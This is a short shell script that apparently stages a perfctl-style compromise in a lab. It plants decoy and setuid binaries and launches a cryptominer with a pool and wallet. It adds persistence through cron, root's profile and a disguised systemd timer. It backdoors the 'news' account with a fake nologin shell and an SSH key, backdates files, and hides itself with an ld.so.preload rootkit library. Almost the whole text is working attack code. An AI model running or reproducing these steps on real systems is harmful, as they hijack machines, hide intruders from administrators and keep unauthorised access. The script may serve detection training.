# Tools lie, the library hides, the account looks like any system account.
mimic /bin/perfcc /tmp/.perf.c/perfctl /root/.config/cron/perfcc /bin/wbin/containerd /tmp/.xdiag/hroot/cp /usr/bin/wizlmsh
chmod 4755 /usr/bin/wizlmsh
mkdir -p /tmp/.xdiag/tordata /tmp/.xdiag/p
start -x -c perfctl -d 15 -p "$POOL" /tmp/.perf.c/perfctl perfctl
start -c sh -d 5 /root/.config/cron/perfcc sh -o "$POOL" -u "$WALLET" --tls
start /bin/wbin/containerd /bin/wbin/containerd --root /var/lib/.perf --address /run/.perf.sock
echo '9 * * * * root /bin/perfcc >/dev/null 2>&1' | put /etc/cron.d/perfclean
echo '11 * * * * /root/.config/cron/perfcc' | tab root
echo '/root/.config/cron/perfcc >/dev/null 2>&1 &' >>/root/.profile
put /etc/systemd/system/kubeupd.service <<'UNIT'
[Unit]
Description=KubeUpdate
[Service]
Environment=AAZHDE=1
ExecStart=/bin/perfcc
UNIT
printf '[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n' | put /etc/systemd/system/kubeupd.timer
systemctl daemon-reload
systemctl enable --quiet kubeupd.timer
cp /bin/dash '/usr/sbin/nologin '
echo '/usr/sbin/nologin ' >>/etc/shells
sed -i 's#^news:.*#news:x:9:9:news:/var/spool/news:/usr/sbin/nologin #' /etc/passwd
key /var/spool/news news@perf
chown -R news: /var/spool/news
age 900 /bin/perfcc /etc/cron.d/perfclean
sleep 0.3
install -m 644 /lab-kit/hider.so /usr/lib/libgcwrap.so
echo /lib/libgcwrap.so >/etc/ld.so.preload
